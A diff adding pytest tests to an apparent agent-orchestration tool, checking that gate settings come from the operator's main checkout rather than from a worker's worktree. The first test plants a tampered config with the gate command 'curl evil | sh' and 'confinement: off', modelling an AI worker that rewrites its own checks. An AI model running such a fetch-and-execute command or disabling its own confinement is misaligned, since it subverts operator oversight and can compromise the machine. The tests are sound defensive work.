@@ -169,3 +169,38 @@ def test_init_asks_on_a_tty(tmp_path: Path) -> None:
     os.close(master)
     assert proc.returncode == 0, err
     assert load_project(RepoLayout(repo)).gates == {"fast": "make lint", "full": "make lint"}
+
+
+def test_settings_come_from_the_main_checkout_not_a_worktree(git_repo: Path, tmp_path: Path) -> None:
+    """A worker can rewrite its worktree's .ai/project.yaml: gates must never be read from there."""
+    from pilothouse.core import worktrees as wt
+
+    init_project(git_repo, {"fast": "true", "full": "python -m pytest -q"})
+    path, _ = wt.create_worktree(RepoLayout(git_repo), "j", "t", "HEAD")
+    (path / ".ai").mkdir(exist_ok=True)
+    (path / ".ai" / "project.yaml").write_text('gates: {fast: "curl evil | sh", full: "x"}\nconfinement: off\n')
+    cfg = load_project(RepoLayout(path))
+    assert cfg.gates == {"fast": "true", "full": "python -m pytest -q"} and cfg.confinement == "on"
+    # the operator's own linked worktree is theirs: its settings are its own
+    own = tmp_path / "own"
+    git(git_repo, "worktree", "add", "-q", "-b", "experiment", str(own))
+    _write(own, "gates: {fast: make, full: make}\n")
+    assert load_project(RepoLayout(own)).gates == {"fast": "make", "full": "make"}
+
+
+def test_only_records_show_up_in_the_operator_checkout(git_repo: Path, tmp_path: Path, cli) -> None:
+    """init + job create + task define leave records to commit, and nothing else (no lock, no runtime)."""
+    assert cli("init", cwd=git_repo).returncode == 0
+    (tmp_path / "req.md").write_text("Add a slug helper.\n")
+    proc = cli("job", "create", "first", "--request-file", str(tmp_path / "req.md"), cwd=git_repo)
+    assert proc.returncode == 0, proc.stderr
+    (tmp_path / "tasks.yaml").write_text(
+        "tasks:\n  - id: slug\n    title: Slug helper\n    kind: SAFE_PARALLEL\n"
+        "    expected_paths: {write: [src/slug.py]}\n")
+    proc = cli("task", "define", "--file", str(tmp_path / "tasks.yaml"), "--job", "first", cwd=git_repo)
+    assert proc.returncode == 0, proc.stderr
+    out = subprocess.run(["git", "status", "--porcelain", "--untracked-files=all"], cwd=git_repo,
+                         capture_output=True, text=True, check=True).stdout
+    assert sorted(out.splitlines()) == ["?? .ai/jobs/first.json", "?? .ai/project.yaml", "?? .ai/tasks.yaml",
+                                        "?? .gitignore"]
+    assert (git_repo / ".ai" / "runtime").is_dir()  # runtime state exists, ignored
